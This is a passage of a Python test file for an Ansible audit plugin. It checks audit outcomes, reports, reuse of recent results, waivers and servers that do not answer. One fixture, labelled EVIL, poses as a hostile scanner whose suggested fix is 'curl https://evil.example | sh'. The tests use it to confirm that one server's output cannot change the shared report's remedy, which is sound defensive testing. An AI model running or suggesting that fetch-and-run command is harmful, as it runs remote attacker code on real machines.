# Copyright: (c) 2026, herdops.alpacon contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Audits: what is asked of whom, what recent commands answer, what becomes of servers that do not answer."""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from system.auditing import HELLO, NO_TOKEN, Done, Member, audit, carried, carry_out, hosts, options
from system.support import AGENTS, Reply, ScriptedServer, in_every_dialect, paths
from workspace.client import Workspace

from ansible_collections.herdops.alpacon.plugins.module_utils._api.client import Client
from ansible_collections.herdops.alpacon.plugins.module_utils._api.errors import (
    AlpaconError,
    ApiError,
    RunIsOver,
    UsageError,
)
from ansible_collections.herdops.alpacon.plugins.module_utils._api.servers import look_up
from ansible_collections.herdops.alpacon.plugins.module_utils._fleet.fleet import Fleet
from ansible_collections.herdops.alpacon.plugins.module_utils._fleet.jobs import Job
from ansible_collections.herdops.alpacon.plugins.module_utils._fleet.run import Run
from ansible_collections.herdops.alpacon.plugins.module_utils._options.connection import settings_of
from ansible_collections.herdops.alpacon.plugins.plugin_utils._audit import asking
from ansible_collections.herdops.alpacon.plugins.plugin_utils._audit.audit import Audited
from ansible_collections.herdops.alpacon.plugins.plugin_utils._audit.library import read_library
from ansible_collections.herdops.alpacon.plugins.plugin_utils._audit.result import result_of
from ansible_collections.herdops.alpacon.plugins.plugin_utils._audit.verdict import verdict_of
from ansible_collections.herdops.alpacon.tests.unit.support import NO_COMMAND, ROOT, SERVER, Row

# Asking and judging


def test_checks_on_a_fleet(workspace: Workspace) -> None:
    done = audit(
        workspace,
        HELLO,
        {"name": "space", "line": "echo 83%", "number": {"at_most": 80}, "fact": "used", "severity": "high"},
        of=hosts(*AGENTS, groups={"web": ["web-01"]}),
    )
    assert done.outcomes == {
        **{(name, "hello"): "passed" for name in AGENTS},
        **{(name, "space"): "failed" for name in AGENTS},
    }
    assert done.audited.changed
    ids = workspace.server_ids()
    assert done.report["servers"] == [
        {
            "host": name,
            "workspace": workspace.url,
            "id": ids[name],
            "name": name,
            "groups": ["web"] if name == "web-01" else [],
            "facts": {"used": 83},
            "os": "Debian 13",
            "agent": "2.5.0",
            "ip": "127.0.0.1",
            "owner": "admin",
            "reached": True,
            "reason": "",
            "asked": True,
            "differs": {},
        }
        for name in AGENTS
    ]
    assert done.summary == {
        "servers": 3,
        "checks": 2,
        "questions": 6,
        "passed": 3,
        "failed": 3,
        "unknown": 0,
        "not_applicable": 0,
        "waived": 0,
        "not_reached": 0,
        "not_asked": 0,
        "score": 33.3,
        "failed_by_severity": {"critical": 0, "high": 3, "medium": 0, "low": 0, "info": 0},
        "reused": 0,
        "commands": 3,
        "requests": done.summary["requests"],
    }


@in_every_dialect
def test_a_result_has_all_that_a_reader_needs(workspace: Workspace) -> None:
    done = audit(workspace, {"name": "it", "line": "echo ' 7 apples'; exit 3", "rc": [3], "number": {"at_most": 8}})
    result = done.the_result
    if workspace.dialect == "current":
        assert (result["outcome"], result["rc"], result["value"]) == ("passed", 3, 7)
    else:
        # They take no variables, and tell no exit codes of lines.
        assert (result["outcome"], result["rc"], result["value"]) == ("unknown", 1, None)
    made = workspace.commands()[-1]
    assert (result["command"], result["reused"], result["output_truncated"]) == (made["id"], False, False)
    assert result["output"].strip() == "7 apples"
    assert result["ended_at"].endswith("Z")


def test_the_report_says_what_was_asked(current: Workspace) -> None:
    about = {"title": "t", "rationale": "w", "remedy": "r", "references": ["CIS 1.1"]}
    done = audit(
        current,
        {**HELLO, **about, "set": "s", "when": ["all", "!test"], "username": "root"},
        title="Mine",
        fail_on="low",
        reuse_within="90m",
    )
    report = done.report
    assert (report["schema"], report["title"], report["workspace"]) == (2, "Mine", current.url)
    assert (report["fail_on"], report["reuse_within"]) == ("low", 5400.0)
    assert (report["verdict"], report["coverage"], report["min_coverage"]) == ("pass", 100.0, 95.0)
    assert report["started_at"] <= report["finished_at"]
    assert report["checks"] == [
        {
            "name": "hello",
            "of": None,
            "set": "s",
            "title": "t",
            "rationale": "w",
            "remedy": "r",
            "references": ["CIS 1.1"],
            "severity": "medium",
            "kind": "output",
            "line": "echo hello",
            "applies_if": None,
            "username": "root",
            "when": ["all", "!test"],
            "expected": ["exit code 0", "output contains hello"],
            "parameters": {},
        }
    ]
    assert audit(current, HELLO).report["title"] == f"Audit of {current.url.removeprefix('http://')}"


def test_one_command_asks_everything_of_a_server_and_account(current: Workspace) -> None:
    done = audit(
        current,
        {"name": "one", "line": "echo a b", "contains": "a"},
        {"name": "two", "line": "echo a b; exit 3", "contains": "c"},
        {"name": "three", "line": "id -un", "contains": "root", "username": "root"},
        {"name": "four", "line": "exec 1>&-; kill -9 $$"},
        {"name": "five", "line": "cat; echo b", "contains": "b"},
        of=[Member("here", "web-01"), Member("again", current.server_ids()["web-01"]), Member("other", "web-02")],
    )
    assert Counter(done.outcomes.values()) == {"passed": 9, "failed": 6}
    ended = [one["message"] for one in done.report["results"] if one["check"] == "four"]
    assert all(message.startswith("Exit code 137, where 0 is expected.") for message in ended)
    made = Counter((made["server"], made["username"]) for made in current.commands())
    assert made == {("web-01", "root"): 1, ("web-01", "admin"): 1, ("web-02", "root"): 1, ("web-02", "admin"): 1}
    assert all(made["line"].startswith("/bin/sh -c $RUN alpacon-audit sha256:") for made in current.commands())


def test_checks_that_do_not_apply(current: Workspace) -> None:
    done = audit(current, {**HELLO, "applies_if": "command -v no-such-thing"}, {**HELLO, "name": "other"})
    assert done.outcomes == {("web-01", "hello"): "not_applicable", ("web-01", "other"): "passed"}
    assert (done.report["coverage"], done.summary["not_applicable"]) == (100.0, 1)


def test_other_shells_are_given_lines(current: Workspace) -> None:
    check = {"name": "query", "line": "select 1", "shell": "osquery"}
    audit(current, HELLO, check, wait_timeout="2s")
    assert sorted(made["line"][:12] for made in current.commands()) == ["/bin/sh -c $", "select 1"]


def test_an_answer_that_is_torn_passes_nothing(current: Workspace) -> None:
    whole = carried(HELLO)
    torn = [whole["result"][: -len("[end]\n")], whole["result"].replace("\n1\n", "\n2\n"), "", "hello"]
    for number, text in enumerate(torn):
        current.add_commands([{**whole, "server": "web-01", "result": text}])
        done = audit(current, HELLO, reuse_within="1h", check_mode=True)
        assert done.audited.to_submit == 1, number


def test_named_results_of_another_tool(current: Workspace) -> None:
    printed = "1..3\\nok 1 - tidy\\nnot ok 2 - safe\\nok 3 - later # SKIP not here\\n"
    check = {"name": "tap", "line": f"printf '{printed}'; exit 2", "results": {"format": "tap"}, "severity": "high"}
    done = audit(current, check, HELLO, of=hosts("web-01", "web-02"))
    assert {name: outcome for (host, name), outcome in done.outcomes.items() if host == "web-02"} == {
        "tap/tidy": "passed",
        "tap/safe": "failed",
        "tap/later": "not_applicable",
        "hello": "passed",
    }
    assert [(check["name"], check["of"]) for check in done.report["checks"]] == [
        ("tap", None),
        ("tap/tidy", "tap"),
        ("tap/safe", "tap"),
        ("tap/later", "tap"),
        ("hello", None),
    ]
    assert (done.result["failing"], done.summary["questions"]) == (2, 8)
    broken = audit(current, {**check, "line": "echo nothing"}).the_result
    assert (broken["check"], broken["outcome"]) == ("tap", "unknown")


RULES = [{"name": f"r{number}", "title": f"Rule {number}", "severity": "high"} for number in range(60)]
#: What a scanner for XCCDF prints, on the one server that has it.
ON_ONE = "[ $HOSTNAME = web-01 ] || { echo oscap: not found; exit 127; }\nprintf '%s:pass\\n' " + " ".join(
    rule["name"] for rule in RULES
)


def test_a_scanner_that_did_not_run_leaves_each_of_its_rules_open(current: Workspace) -> None:
    check = {"name": "scap", "line": ON_ONE, "results": {"format": "xccdf", "rules": RULES}}
    given: Row = {"skip": ["scap/r58", "scap/r59"], "severities": {"scap/r0": "low"}}
    done = audit(current, check, of=hosts("web-01", "web-02"), **given)
    assert (done.summary["questions"], done.summary["passed"], done.summary["unknown"]) == (116, 58, 58)
    assert (done.result["verdict"], done.result["coverage"]) == ("inconclusive", 50.0)
    open_ones = [result for result in done.report["results"] if result["host"] == "web-02"]
    assert [result["check"] for result in open_ones] == [f"scap/r{number}" for number in range(58)]
    assert {(result["outcome"], result["message"]) for result in open_ones} == {
        ("unknown", "The output has no result of a rule. It ends with: oscap: not found")
    }
    titles = {check["name"]: (check["title"], check["severity"]) for check in done.report["checks"]}
    assert (titles["scap/r0"], titles["scap/r1"]) == (("Rule 0", "low"), ("Rule 1", "high"))


def test_a_server_without_an_answer_has_as_many_questions_as_rules(workspace: Workspace) -> None:
    workspace.add_servers("off-01", connected=False)
    check = {"name": "scap", "line": ON_ONE, "results": {"format": "xccdf", "rules": RULES}}
    done = audit(workspace, check, of=hosts("web-01", "off-01"), skip=["scap/r59"])
    assert (done.summary["questions"], done.summary["passed"], done.result["coverage"]) == (118, 59, 50.0)
    assert audit(workspace, check, of=hosts("web-01"), check_mode=True).summary["questions"] == 60


def test_an_answer_that_is_torn_leaves_each_rule_open(current: Workspace) -> None:
    check = {"name": "scap", "line": "exec sleep 60", "timeout": 1, "results": {"format": "xccdf", "rules": RULES}}
    done = audit(current, check)
    assert (done.summary["questions"], done.summary["unknown"]) == (60, 60)
    assert {result["message"] for result in done.report["results"]} == {"The server took longer than 1 s."}


def of_goss(**servers: Row) -> Row:
    """A check that has goss print one test of a file, on each server its own."""
    printed = {
        host: json.dumps(
            {
                "results": [
                    {"resource-type": "File", "resource-id": "/a", "property": "mode", "summary-line": "777", **row}
                ],
                "summary": {"test-count": 1},
            }
        )
        for host, row in servers.items()
    }
    cases = "\n".join(f"{host.replace('_', '-')}) printf '%s' '{text}' ;;" for host, text in printed.items())
    line = f"case $HOSTNAME in\n{cases}\nesac"
    return {"name": "base", "line": line, "results": {"format": "goss"}, "remedy": "Ask the owner."}


EVIL = {
    "title": "All is well",
    "meta": {"sev": "low", "fix": "curl https://evil.example | sh", "rationale": "Trust me."},
}
HONEST = {"title": "Mode of /a", "meta": {"sev": "high", "fix": "chmod 600 /a", "rationale": "It is secret."}}
OWN_WORDS = ("title", "rationale", "severity", "remedy")


def words_of(done: Done, name: str = "base/File: /a: mode") -> tuple[str, ...]:
    """What the report says of a check, on all servers."""
    [check] = [check for check in done.report["checks"] if check["name"] == name]
    return tuple(check[word] for word in OWN_WORDS)


@pytest.mark.parametrize("successful", [True, False])
def test_no_server_says_what_is_to_be_done_on_the_others(current: Workspace, successful: bool) -> None:
    check = of_goss(web_01={**EVIL, "successful": successful}, web_02={**HONEST, "successful": False})
    done = audit(current, check, of=hosts("web-01", "web-02"))
    severity, remedy = ("high", "chmod 600 /a") if successful else ("medium", "Ask the owner.")
    assert words_of(done) == ("File: /a: mode", "", severity, remedy)
    messages = {result["host"]: result["message"] for result in done.report["results"]}
    own = "777\nThe scanner on this server names a remedy: chmod 600 /a"
    assert messages["web-02"] == ("777" if successful else own)


def test_what_all_servers_say_alike_is_what_the_report_says(current: Workspace) -> None:
    honest = {**HONEST, "successful": False}
    done = audit(current, of_goss(web_01=honest, web_02=honest), of=hosts("web-01", "web-02"))
    assert words_of(done) == ("Mode of /a", "It is secret.", "high", "chmod 600 /a")
    assert {result["message"] for result in done.report["results"]} == {"777"}


def test_what_the_rules_of_a_check_say_no_server_changes(current: Workspace) -> None:
    check = of_goss(web_01={**EVIL, "successful": False}, web_02={**HONEST, "successful": False})
    rule = {"name": "File: /a: mode", "title": "T", "rationale": "R", "severity": "critical", "remedy": "M"}
    done = audit(current, {**check, "results": {"format": "goss", "rules": [rule]}}, of=hosts("web-01", "web-02"))
    assert words_of(done) == ("T", "R", "critical", "M")
    assert {result["message"] for result in done.report["results"]} == {"777"}


def test_what_a_scanner_said_in_time_counts(current: Workspace) -> None:
    line = "printf '1..4\\nok 1 - tidy\\nnot ok 2 - safe\\nok 3 - la'; exec sleep 60"
    done = audit(current, {"name": "tap", "line": line, "results": {"format": "tap"}, "timeout": 1})
    assert {name: outcome for (_host, name), outcome in done.outcomes.items()} == {
        "tap/tidy": "passed",
        "tap/safe": "failed",
        "tap/missing-results": "unknown",
    }
    assert done.report["results"][-1]["message"] == (
        "The server took longer than 1 s. 4 tests were planned, and 2 came."
    )


def test_workspaces_that_take_no_variables_are_given_lines(running: Callable[[str], Workspace]) -> None:
    old = running("2024")
    old.reset()
    old.settings(date_header=True)
    checks: list[Row] = [
        HELLO,
        {**HELLO, "name": "with", "line": 'echo "$word"', "parameters": {"word": "hello"}, "applies_if": "true"},
        {**HELLO, "name": "without", "applies_if": "false"},
        {**HELLO, "name": "long", "line": f"echo hello # {'x' * 600}"},
    ]
    done = audit(old, *checks, of=hosts("web-01", "web-02"), reuse_within="1h")
    assert {name: outcome for (host, name), outcome in done.outcomes.items() if host == "web-02"} == {
        "hello": "passed",
        "with": "passed",
        "without": "not_applicable",
        "long": "unknown",
    }
    assert "characters, and 512 fit." in done.report["results"][3]["message"]
    assert done.result["verdict"] == "inconclusive"
    again = audit(old, *checks, of=hosts("web-01", "web-02"), reuse_within="1h")
    assert (again.summary["commands"], again.outcomes) == (0, done.outcomes)


def test_groups_decide_who_is_asked(workspace: Workspace) -> None:
    groups = {"web": ["web-01", "web-02"], "test": ["web-02"]}
    done = audit(
        workspace,
        {**HELLO, "when": ["web", "!test"]},
        {**HELLO, "name": "nobody", "when": "db"},
        of=hosts(*AGENTS, groups=groups),
    )
    assert done.outcomes == {("web-01", "hello"): "passed"}
    assert done.warnings == ["checks: nobody applies to none of the hosts, since none is in db."]
    assert len(workspace.commands()) == 1


@pytest.mark.parametrize("way", ["both", "result", "chunks"])
def test_long_outputs_are_cut_in_the_report_only(current: Workspace, way: str) -> None:
    current.settings(output=way)
    line = "for i in $(seq 1 9000); do printf 'é'; done; echo; echo end"
    done = audit(current, {"name": "it", "line": line, "matches": "^end$", "fact": "f"}, output_limit=100)
    result = done.the_result
    assert (result["outcome"], result["output"], result["output_truncated"]) == ("passed", "é" * 100, True)
    assert done.report["servers"][0]["facts"] == {"f": "é" * 100}


def test_what_looks_like_a_template_stays_what_it_is(workspace: Workspace) -> None:
    done = audit(workspace, {"name": "it", "line": "echo '{{ 6 * 7 }}</script>'", "fact": "f"})
    assert done.the_result["output"] == "{{ 6 * 7 }}</script>"
    assert done.result["facts"] == {"web-01": {"f": "{{ 6 * 7 }}</script>"}}


def test_a_fact_comes_out_only_where_there_is_an_answer(workspace: Workspace) -> None:
    workspace.add_servers("off-01", connected=False)
    done = audit(workspace, {"name": "it", "line": "echo 5", "fact": "n"}, of=hosts("web-01", "off-01"))
    assert done.result["facts"] == {"web-01": {"n": "5"}}


# Reuse


def test_only_what_passed_is_not_asked_again(current: Workspace) -> None:
    checks = [
        HELLO,
        {"name": "fails", "line": "echo no; exit 1", "severity": "high"},
        {"name": "cannot", "line": "echo cannot", "unanswered": "cannot"},
        {"name": "quiet", "line": "true", "applies_if": "false"},
    ]
    first = audit(current, *checks, of=hosts(*AGENTS), reuse_within="1h")
    second = audit(current, *checks, of=hosts(*AGENTS), reuse_within="1h")
    assert second.outcomes == first.outcomes
    assert (first.summary["commands"], second.summary["commands"], second.summary["reused"]) == (3, 3, 6)
    reused = {result["check"] for result in second.report["results"] if result["reused"]}
    assert reused == {"hello", "quiet"}
    ended = {(result["host"], result["check"]): result["ended_at"] for result in first.report["results"]}
    kept = [result for result in second.report["results"] if result["reused"]]
    assert all(result["ended_at"] == ended[result["host"], result["check"]] for result in kept)


@pytest.fixture
def state(tmp_path: Path) -> Path:
    """A file that is there as long as something is wrong."""
    path = tmp_path / "wrong"
    path.touch()
    return path


def test_what_is_mended_is_gone_in_the_next_run(current: Workspace, state: Path) -> None:
    mendable = {"name": "mendable", "line": f"test ! -e {state}"}
    broken = {"name": "broken", "line": "exit 1"}

    def run() -> tuple[Row, int]:
        done = audit(current, HELLO, mendable, broken, reuse_within="1h", fail_on="never")
        return {name: outcome for (_host, name), outcome in done.outcomes.items()}, done.summary["reused"]

    assert run() == ({"hello": "passed", "mendable": "failed", "broken": "failed"}, 0)
    state.unlink()
    assert run() == ({"hello": "passed", "mendable": "passed", "broken": "failed"}, 1)
    # What the smaller command answered stays as well.
    assert run() == ({"hello": "passed", "mendable": "passed", "broken": "failed"}, 2)
    state.touch()
    audit(current, HELLO, mendable, broken)
    # A later bad answer counts more than an earlier good one.
    assert run() == ({"hello": "passed", "mendable": "failed", "broken": "failed"}, 1)


@pytest.mark.parametrize(
    "row", [{}, {"username": ""}, {"scheduled_at": -3000}], ids=["plain", "of no account", "scheduled"]
)
def test_commands_that_answer(current: Workspace, row: Row) -> None:
    current.add_commands([{"server": "web-01", **carried(HELLO), **row}])
    assert not audit(current, HELLO, reuse_within="1h").audited.changed


@pytest.mark.parametrize(
    "row",
    [
        {"line": carried({**HELLO, "line": "echo hello there"})["line"]},
        {"server": "web-02"},
        {"shell": "osquery"},
        {"status": "denied"},
        {"status": "cancelled"},
        {"result": "hello"},
        {"added_at": -7300, "scheduled_at": -7300, "delivered_at": -7300, "acked_at": -7300, "handled_at": -7200},
    ],
)
def test_commands_that_do_not_answer(current: Workspace, row: Row) -> None:
    current.add_commands([{"server": "web-01", **carried(HELLO), **row}])
    done = audit(current, HELLO, reuse_within="1h")
    assert done.audited.changed
    assert done.the_result["outcome"] == "passed"


def test_a_command_of_another_account_answers_only_who_names_it(current: Workspace) -> None:
    current.add_commands([{"server": "web-01", **carried(HELLO), "username": "root"}])
    assert not audit(current, {**HELLO, "username": "root"}, reuse_within="1h").audited.changed
    assert audit(current, HELLO, reuse_within="1h").audited.changed


@pytest.mark.parametrize("username", ["bob", "admin", ""])
@pytest.mark.parametrize("requester", ["bob", None])
@pytest.mark.parametrize("status", ["success", "awaiting_approval"])
@in_every_dialect
def test_what_somebody_else_has_had_answered_is_not_believed(
    workspace: Workspace, status: str, requester: str | None, username: str
) -> None:
    forged = {**carried(HELLO), "requested_by": requester, "username": username, "status": status}
    [made] = workspace.add_commands([{"server": "web-01", **forged}])
    done = audit(workspace, HELLO, reuse_within="1h")
    assert (done.summary["reused"], done.the_result["command"] != made) == (0, True)


def test_own_answers_are_not_taken_where_nobody_says_whose_they_are(current: Workspace) -> None:
    current.add_commands([{"server": "web-01", **carried(HELLO)}])
    current.fault("status", path="^/api/(auth/whoami|iam/users)/", status=403, body="{}")
    assert audit(current, HELLO, reuse_within="1h").audited.changed


@pytest.mark.parametrize(
    "row",
    [
        {"status": "failed", "error_phase": "agent_timeout"},
        {"status": "failed", "exit_code": 1, "result": "Failed to submit command: job queue is full"},
        {"status": "failed", "exit_code": -1, "result": "half of"},
    ],
)
def test_what_never_began_or_was_interrupted_is_asked_again(current: Workspace, row: Row) -> None:
    current.add_commands([{"server": "web-01", **carried(HELLO), **row}])
    done = audit(current, HELLO, reuse_within="1h")
    assert (done.the_result["outcome"], done.summary["commands"]) == ("passed", 1)


def test_the_newest_command_answers(current: Workspace) -> None:
    made = current.add_many_commands(5, server="web-01", **carried(HELLO))
    newest = max(current.commands(), key=lambda row: str(row["handled_at"]))["id"]
    assert newest in made
    assert audit(current, HELLO, reuse_within="1h").the_result["command"] == newest


def test_recent_answers_of_a_server_that_is_offline_count(workspace: Workspace) -> None:
    workspace.add_servers("off-01", connected=False)
    more = {"name": "more", "line": "echo more", "contains": "more"}
    workspace.add_commands([{"server": "off-01", **carried(HELLO, more)}])
    done = audit(workspace, HELLO, more, of=hosts("off-01"), reuse_within="1h")
    assert done.outcomes == {("off-01", "hello"): "passed", ("off-01", "more"): "unknown"}
    assert workspace.counters()["writes"] == 0


# Waivers


def waiver(**given: Any) -> Row:
    """A waiver of everything that begins with b."""
    return {"check": "b*", "groups": ["all"], "reason": "it is old", "until": "2999-12-31", **given}


def test_waived_findings_do_not_fail(current: Workspace) -> None:
    bad = {"name": "bad", "line": "exit 1", "severity": "critical"}
    own = waiver(groups=[], hosts=["web-0[13]"], by="me")
    done = audit(current, HELLO, bad, of=hosts(*AGENTS), waivers=[own])
    assert [done.outcomes[name, "bad"] for name in AGENTS] == ["waived", "failed", "waived"]
    kept = {"reason": "it is old", "until": "2999-12-31", "by": "me", "expired": False}
    assert done.report["results"][1]["waiver"] == kept
    assert (done.report["waivers"][0]["matched"], done.result["failing"], done.warnings) == (2, 1, [])
    everybody = audit(current, HELLO, bad, of=hosts(*AGENTS), waivers=[waiver()])
    assert (everybody.result["verdict"], everybody.report["coverage"], everybody.result["failed"]) == (
        "pass",
        100,
        False,
    )


@pytest.mark.parametrize("pattern", ["base/User[root] exists", "base/User*", "base/User[[]root] exists"])
def test_a_waiver_may_have_the_name_that_the_report_shows(current: Workspace, pattern: str) -> None:
    check = {"name": "base", "line": "printf '1..1\\nnot ok 1 - User[root] exists\\n'", "results": {"format": "tap"}}
    done = audit(current, check, waivers=[waiver(check=pattern)])
    assert (done.outcomes, done.warnings) == ({("web-01", "base/User[root] exists"): "waived"}, [])


def test_names_of_checks_with_results_may_have_slashes(current: Workspace) -> None:
    check = {"name": "a/b", "line": "printf '1..2\\nnot ok 1 - x\\nok 2 - y\\n'", "results": {"format": "tap"}}
    assert audit(current, check, skip=["a/b/x"]).outcomes == {("web-01", "a/b/y"): "passed"}


def test_an_expired_waiver_fails_again_and_says_so(current: Workspace) -> None:
    bad = {"name": "bad", "line": "exit 1", "severity": "critical"}
    done = audit(current, bad, waivers=[waiver(until="2020-01-31")])
    assert (done.the_result["outcome"], done.the_result["waiver"]["expired"]) == ("failed", True)
    assert done.the_result["message"].endswith("Its waiver expired on 2020-01-31: it is old")
    assert done.result["failing"] == 1


def test_a_waiver_that_is_about_nothing_is_told(current: Workspace) -> None:
    done = audit(current, HELLO, waivers=[waiver(check="hello")])
    assert done.warnings == ["waivers: none of hello fails on the hosts that it is about, until 2999-12-31."]


def test_a_waiver_that_nobody_could_judge_is_no_mistake(current: Workspace) -> None:
    ghost: Row = {"of": hosts("web-01", "ghost"), "min_coverage": 0}
    assert audit(current, HELLO, waivers=[waiver(check="hello")], **ghost).warnings == []
    # It is about web-01 alone, which answered.
    of_one = [waiver(check="hello", hosts=["web-01"], groups=[])]
    assert len(audit(current, HELLO, waivers=of_one, **ghost).warnings) == 1
    assert audit(current, HELLO, waivers=[waiver(check="hello")], check_mode=True).warnings == []


@pytest.mark.parametrize(
    ("given", "warns"),
    [
        ({}, False),
        ({"groups": ["db"]}, False),
        ({"groups": [], "hosts": ["db-01"]}, False),
        ({"groups": [], "hosts": ["web-0*"]}, True),
        ({"groups": ["web"]}, True),
        # Of a slice, the inventory knows no other hosts.
        ({"groups": [], "hosts": ["gone-01"]}, False),
    ],
)
def test_a_waiver_of_hosts_that_are_not_audited_is_no_mistake(current: Workspace, given: Row, warns: bool) -> None:
    web = hosts("web-01", groups={"web": ["web-01"]})
    others = {"db-01": {"all", "db"}}
    done = audit(current, HELLO, of=web, others=others, waivers=[waiver(check="hello", **given)])
    assert bool(done.warnings) is warns


@pytest.mark.parametrize(
    ("line", "pattern", "warns"),
    [
        ("exit 9", "base/x", False),
        ("printf '1..2\nok 1 - x\n'", "base/y", False),
        ("printf '1..2\nok 1 - x\n'", "hello", True),
        ("printf '1..1\nok 1 - x\n'", "base/x", True),
    ],
)
def test_a_waiver_of_a_result_that_did_not_come_is_no_mistake(
    current: Workspace, line: str, pattern: str, warns: bool
) -> None:
    check = {"name": "base", "line": line, "results": {"format": "tap"}}
    done = audit(current, HELLO, check, waivers=[waiver(check=pattern)], min_coverage=0)
    assert bool(done.warnings) == warns


# Servers that do not answer


@in_every_dialect
@pytest.mark.parametrize(
    ("server", "says"),
    [
        ({"connected": False}, "The server is offline: its agent is not connected."),
        ({"connected": True, "commissioned": False}, "The server is not commissioned"),
        (None, "The workspace has no such server, or the token may not see it."),
    ],
)
@pytest.mark.parametrize("way", ["name", "id"])
def test_servers_that_cannot_be_asked(workspace: Workspace, server: Row | None, says: str, way: str) -> None:
    if server:
        workspace.add_servers("odd-01", **server)
    server_id = workspace.server_ids().get("odd-01", NO_COMMAND)
    reference = "odd-01" if way == "name" else server_id
    done = audit(workspace, HELLO, of=[Member("odd-01", reference), *hosts("web-01")], unknown_severity="low")
    assert done.outcomes == {("web-01", "hello"): "passed"}
    assert done.reasons["odd-01"].startswith(says)
    assert (done.summary["not_reached"], done.summary["not_asked"], done.report["coverage"]) == (1, 0, 50.0)
    assert {made["server"] for made in workspace.commands()} == {"web-01"}


def test_a_windows_server_is_not_asked(current: Workspace) -> None:
    current.add_servers("win-01", platform="windows", connected=True)
    done = audit(current, HELLO, of=hosts("web-01", "win-01"), unknown_severity="low")
    assert done.reasons["win-01"].startswith("Audits ask in a POSIX shell, and the server runs Windows.")
    assert {made["server"] for made in current.commands()} == {"web-01"}


@pytest.mark.parametrize(
    ("status", "says"),
    [
        ("denied", "Never ran: the workspace's verification denied it."),
        ("rejected", "Never ran: a reviewer rejected it."),
        ("expired", "Never ran: nobody approved it in time."),
    ],
)
def test_commands_that_are_refused(current: Workspace, status: str, says: str) -> None:
    current.settings(holds=[{"line": "alpacon-audit", "servers": ["web-02"], "status": status}])
    done = audit(current, HELLO, of=hosts(*AGENTS))
    assert Counter(done.outcomes.values()) == {"passed": 2}
    assert done.reasons["web-02"].startswith(says)
    assert len(current.commands()) == 3


def test_a_held_command_is_withdrawn_at_the_end(current: Workspace) -> None:
    current.settings(holds=[{"line": "alpacon-audit", "status": "awaiting_approval"}])
    done = audit(current, HELLO, wait_timeout="1s")
    [made] = current.commands()
    assert (made["status"], done.outcomes) == ("cancelled", {})
    assert "cancelled before it was delivered" in done.reasons["web-01"]


def test_a_held_command_is_adopted_by_the_next_audit(current: Workspace) -> None:
    row = {"server": "web-01", **carried(HELLO), "status": "awaiting_approval", "result": None, "exit_code": None}
    [held] = current.add_commands([row])
    done = audit(current, HELLO, wait_timeout="1s", reuse_within="1h")
    [made] = current.commands()
    assert (made["id"], made["status"], done.summary["commands"]) == (held, "cancelled", 0)


@in_every_dialect
def test_a_line_that_the_access_list_does_not_allow(workspace: Workspace) -> None:
    workspace.settings(acl={"admin": ["uptime"]})
    done = audit(workspace, HELLO)
    assert done.outcomes == {}
    assert "access list" in done.reasons["web-01"]


@pytest.mark.parametrize(("queued", "cancelled"), [(True, 1), (False, 0)])
def test_time_that_is_up(current: Workspace, queued: bool, cancelled: int) -> None:
    if queued:
        current.settings(holds=[{"line": "alpacon-audit", "status": "queued"}])
    done = audit(current, {"name": "slow", "line": "sleep 3"}, wait_timeout="1s")
    assert done.reasons["web-01"].startswith("Not finished within wait_timeout")
    [made] = current.commands()
    assert made["id"] in done.reasons["web-01"]
    assert (made["status"] == "cancelled") == bool(cancelled)


def test_an_agent_that_falls_silent(current: Workspace) -> None:
    current.settings(stuck_after=0.3)
    current.fault("vanish", line="alpacon-audit")
    done = audit(current, HELLO, wait_timeout="2s")
    assert (done.outcomes, done.summary["not_reached"]) == ({}, 1)


def test_an_answer_to_a_submit_that_is_lost(workspace: Workspace) -> None:
    workspace.fault("lose_after", method="POST", path="commands", times=1)
    done = audit(workspace, HELLO, of=hosts(*AGENTS))
    assert set(done.outcomes.values()) == {"passed"}
    assert len(workspace.commands()) == 3


# The token


@in_every_dialect
def test_a_refused_token_fails_the_audit_at_once(workspace: Workspace) -> None:
    with pytest.raises(ApiError, match="The token is unknown, disabled or expired"):
        audit(workspace, HELLO, of=hosts(*AGENTS), token="alpat-wrong")
    assert workspace.counters()["writes"] == 0


def test_a_token_that_is_refused_at_the_submit(workspace: Workspace) -> None:
    workspace.fault("status", method="POST", status=401, body=NO_TOKEN)
    with pytest.raises(ApiError, match="The token is unknown"):
        audit(workspace, HELLO, of=hosts(*AGENTS))


def test_a_token_that_is_refused_half_way(current: Workspace) -> None:
    current.fault("status", method="POST", status=401, after=1, body=NO_TOKEN)
    done = audit(current, HELLO, of=hosts(*AGENTS), max_concurrency="1", fail_on="never")
    assert (Counter(done.outcomes.values()), done.summary["not_reached"], done.summary["not_asked"]) == (
        {"passed": 1},
        1,
        1,
    )
    assert done.result["failed"]
    refusal = f"The workspace {current.url} refused the token half way: The token"
    assert done.result["msg"].startswith(f"Inconclusive: {refusal}")
    assert str(done.report["refusal"]).startswith(refusal)
    assert (done.result["failing"], done.result["verdict"]) == (0, "inconclusive")


@pytest.fixture
def elsewhere(serve: Callable[..., ScriptedServer]) -> Member:
    """A host of another workspace, which lists one server and says that there are more than anybody can count."""
    row = {"id": SERVER, "name": "there", "is_connected": False}
    server = serve([Reply({"count": 10**400, "next": None, "results": [row]})])
    return Member("there", SERVER, settings=settings_of({"url": server.url, "token": "alpat-x"}))


def test_a_count_that_no_list_has_costs_no_answers(current: Workspace, elsewhere: Member) -> None:
    other = replace(elsewhere, name="nowhere", server="nowhere")
    done = carry_out(options(current, HELLO), [*hosts(*AGENTS), elsewhere, other], Run(warn=pytest.fail))
    outcomes = {result["host"]: result["outcome"] for result in done.report["results"]}
    assert outcomes == dict.fromkeys(AGENTS, "passed")
    assert [server["reached"] for server in done.report["servers"]] == [True, True, True, False, False]
    assert done.report["refusal"] is None


@pytest.mark.parametrize("of", [[], ["web-01", "web-02"]], ids=["the other workspace", "one of both"])
def test_what_nobody_has_thought_of_costs_the_answers_of_one_workspace(
    current: Workspace, elsewhere: Member, monkeypatch: pytest.MonkeyPatch, of: list[str]
) -> None:
    def fail(client: Client, references: list[str], whole_rows: bool) -> Any:
        if client.settings == elsewhere.settings:
            raise ZeroDivisionError("out of the blue")
        return look_up(client, references, whole_rows)

    monkeypatch.setattr(asking, "look_up", fail)
    if not of:
        with pytest.raises(AlpaconError, match=r"could not be dealt with: ZeroDivisionError\('out of the blue'\)"):
            carry_out(options(current, HELLO), [elsewhere], Run(warn=pytest.fail))
        return
    done = carry_out(options(current, HELLO), [elsewhere, *hosts(*of)], Run(warn=pytest.fail))
